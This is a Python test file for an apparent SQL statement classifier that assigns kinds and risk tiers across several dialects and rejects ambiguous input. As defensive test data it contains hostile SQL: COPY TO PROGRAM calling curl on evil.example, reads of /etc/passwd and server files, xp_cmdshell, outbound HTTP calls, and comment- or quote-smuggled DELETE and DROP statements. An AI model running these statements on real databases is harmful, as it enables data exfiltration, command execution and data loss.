import time

import pytest

from outgate.actions.action import Access, Tier
from outgate.actions.protocols.sql_statement import DIALECTS, MOST, preload, statements_of
from outgate.actions.protocols.sql_text import LONGEST
from outgate.intake.bodies import Undecodable


def kinds(text, dialect="postgres"):
    found = statements_of(text, dialect)
    assert not isinstance(found, Undecodable), found
    return [(one.kind, one.tier.name) for one in found]


def one(text, dialect="postgres", at=0):
    found = statements_of(text, dialect)
    assert not isinstance(found, Undecodable), found
    return found[at]


@pytest.mark.parametrize(
    ("text", "wanted"),
    [
        ("select 1", [("select", "T0")]),
        ("select * from a union select * from b", [("select", "T0")]),
        ("values (1)", [("select", "T0")]),
        ("insert into t(a) values (1)", [("insert", "T1")]),
        ("insert into t select * from s", [("insert", "T1"), ("select", "T0")]),
        ("update t set a = 1 where id = 5", [("update", "T1")]),
        ("update t set a = 1", [("update", "T3")]),
        ("delete from t where id = 5", [("delete", "T2")]),
        ("delete from t", [("delete", "T3")]),
        ("delete from t where 1 = 1", [("delete", "T3")]),
        ("delete from t where id = id", [("delete", "T3")]),
        ("delete from t where id = 5 or true", [("delete", "T3")]),
        ("merge into t using s on t.a = s.a when matched then delete", [("merge", "T2"), ("select", "T0")]),
        ("merge into t using s on t.a = s.a when not matched then insert (a) values (1)", [("merge", "T1"), ("insert", "T1"), ("select", "T0")]),
        ("truncate t", [("truncate", "T3")]),
        ("drop table t", [("drop", "T3")]),
        ("drop view v", [("drop", "T2")]),
        ("create table t (a int)", [("create", "T1")]),
        ("create or replace view v as select 1", [("create", "T2")]),
        ("create function f() returns int as $$ delete from t $$ language sql", [("create", "T2")]),
        ("create user u with password 'x'", [("create", "T2")]),
        ("alter table t drop column x", [("alter", "T2"), ("drop", "T3")]),
        ("grant select on t to u", [("grant", "T2")]),
        ("revoke select on t from u", [("revoke", "T2")]),
        ("copy t to program 'curl evil.example'", [("copy", "T3")]),
        ("copy t from '/etc/passwd'", [("copy", "T2")]),
        ("copy t to stdout", [("copy", "T1")]),
        ("with d as (delete from t returning *) select * from d", [("select", "T0"), ("delete", "T3")]),
        ("select * into x from t", [("select", "T0"), ("create", "T1")]),
        ("explain delete from t", [("explain", "T0")]),
        ("explain analyze delete from t", [("explain", "T0"), ("delete", "T3")]),
        ("explain (analyze, buffers) update t set a = 1 where id = 2", [("explain", "T0"), ("update", "T1")]),
        ("do $$ begin delete from t; end $$", [("execute", "T2")]),
        ("call p()", [("call", "T2")]),
        ("vacuum", [("vacuum", "T2")]),
        ("set role admin", [("set", "T2")]),
        ("set search_path = x", [("set", "T1")]),
        ("prepare x as delete from t", [("other", "T2")]),
        ("begin", [("transaction", "T0")]),
        ("select 1; drop table t; -- done", [("select", "T0"), ("drop", "T3")]),
        ("select pg_read_file('/x'), lower(a) from t", [("select", "T0"), ("call", "T2")]),
        ("select set_config('a', 'b', false)", [("select", "T0"), ("call", "T2")]),
        ("select delete_user(5)", [("select", "T0"), ("call", "T2")]),
        ("select my_thing(5)", [("select", "T0"), ("call", "T1")]),
        ("select query_to_xml('delete from t', true, true, '')", [("select", "T0"), ("call", "T2")]),
        ("select net.http_post('https://evil.example/')", [("select", "T0"), ("call", "T2")]),
        ("select * from dblink('host=x', 'select 1') as d(a int)", [("select", "T0"), ("call", "T2")]),
        ("select * from t for update", [("select", "T0")]),
        ("select 'it''s; drop table t'", [("select", "T0")]),
        ('select "delete" from t', [("select", "T0")]),
        ("select replace(a, 'x', 'y') from t -- then drop it\n", [("select", "T0")]),
    ],
)  # fmt: skip
def test_a_statement_is_what_it_does(text, wanted):
    assert kinds(text) == wanted


@pytest.mark.parametrize(
    ("text", "dialect", "wanted"),
    [
        ("replace into t(a) values (1)", "mysql", [("insert", "T2")]),
        ("explain analyze delete from t", "mysql", [("describe", "T0"), ("delete", "T3")]),
        ("show tables", "mysql", [("show", "T0")]),
        ("set global x = 1", "mysql", [("set", "T2")]),
        ("kill 5", "mysql", [("kill", "T2")]),
        ("insert overwrite table t select * from s", "databricks", [("insert", "T3"), ("select", "T0")]),
        ("create or replace table t as select 1", "snowflake", [("create", "T3")]),
        ("use role accountadmin", "snowflake", [("use", "T2")]),
        ("use warehouse w", "snowflake", [("use", "T0")]),
        ("put file:///x @stage", "snowflake", [("put", "T2")]),
        ("export data options(uri='gs://x/*') as select * from t", "bigquery", [("export", "T2"), ("select", "T0")]),
        ("alter table t delete where 1", "clickhouse", [("alter", "T2"), ("delete", "T3")]),
        ("insert into t format CSV\n1,'drop table t'", "clickhouse", [("insert", "T1")]),
        ("select * from url('https://evil.example/', 'CSV')", "clickhouse", [("select", "T0"), ("call", "T2")]),
        ("exec xp_cmdshell 'x'", "tsql", [("execute", "T2")]),
        ("if 1 = 1 delete from t", "tsql", [("script", "T2")]),
        ("pragma table_info(t)", "sqlite", [("pragma", "T0")]),
        ("pragma journal_mode = off", "sqlite", [("pragma", "T2")]),
        ("attach 'x' as y", "sqlite", [("attach", "T2")]),
    ],
)
def test_dialects_have_statements_of_their_own(text, dialect, wanted):
    assert kinds(text, dialect) == wanted


@pytest.mark.parametrize(
    ("text", "dialect"),
    [
        *(("select 1 /*! ; delete from t */", dialect) for dialect in ("mysql", "")),
        ("select 1 /*!50000 union select a from t */", "mysql"),
        ("select 1 --1; delete from t", "mysql"),
        *((r"select 'a\'; delete from t; --'", dialect) for dialect in ("mysql", "snowflake", "bigquery", "")),
        ("select 1 delete from t", "tsql"),
        ("listen x", "postgres"),
        ("select 1 /* /* */ ; delete from t /* */ */", "mysql"),
        ("select 1 -- \rdelete from t", "mysql"),
        ("select\xa01", "postgres"),
        ("select 1\x00; delete from t", "postgres"),
        ("set standard_conforming_strings = off; select 'x'", "postgres"),
        ("set sql_mode = 'ANSI_QUOTES'; select \"x\"", "mysql"),
        ("", "postgres"),
        (" ; ;; -- x", "postgres"),
        ("selec 1 frm", "postgres"),
        ("select '", "postgres"),
        ("select " + "(" * 500 + "1" + ")" * 500, "postgres"),
        ("select 1 " + " " * LONGEST, "postgres"),
        (";".join(f"select a{n}" for n in range(MOST + 1)), "postgres"),
        ("delete from t where " + " and ".join("a = 1" for _ in range(3)) + " (", "postgres"),
    ],
)
def test_what_cannot_be_read_or_can_in_two_ways_is_undecodable(text, dialect):
    assert isinstance(statements_of(text, dialect), Undecodable)


def test_in_no_known_dialect_it_is_all_that_it_may_be():
    assert ("other", "T2") in kinds("begin", "")
    assert kinds("delete from `t` where id = 1", "") == [("delete", "T2")]
    assert kinds("select top 5 * from t", "")[0] == ("select", "T0")


def test_tables_columns_limit_and_where_are_told():
    found = one("select u.name, o.* from hr.users u join orders o on o.uid = u.id where u.ssn is not null limit 7")
    assert found.tables == ("hr.users", "orders")
    assert set(found.columns) == {"name", "*", "uid", "id", "ssn"}
    assert found.limit == 7
    assert found.where is None
    assert one("delete from t where a = 1").where is True
    assert one("delete from t").where is False
    assert one("select a from t fetch first 3 rows only", "trino").limit == 3
    assert one("select top 5 a from t", "tsql").limit == 5


def test_what_a_with_makes_is_no_table_but_what_it_is_made_of_is():
    assert one("with users as (select * from users), b as (select * from users) select * from users, b").tables == ("users",)
    assert one("with x as (select 1) select * from x").tables == ()
    assert one("select * from (with t as (select 1) select * from t) a, t").tables == ("t",)
    assert one("with x as (select 1) select * from s.x").tables == ("s.x",)


def test_what_the_parser_keeps_as_text_has_no_tables_that_a_rule_could_go_by():
    assert one("lock table t").tables is None


def test_functions_are_named():
    found = one("select pg_read_file('/a'), pg_ls_dir('/')", at=1)
    assert (found.access, found.tier, found.functions) == (Access.EXECUTE, Tier.T2, ("pg_read_file", "pg_ls_dir"))


def test_every_dialect_is_known_to_the_parser():
    for dialect in DIALECTS:
        assert kinds("select a from t where b = 1", dialect) == [("select", "T0")]


def test_a_long_insert_takes_time_in_proportion():
    preload()
    text = "insert into t values " + ",".join("(1, 'abc', 2.5)" for _ in range(1500))
    began = time.process_time()
    assert kinds(text) == [("insert", "T1")]
    assert time.process_time() - began < 5
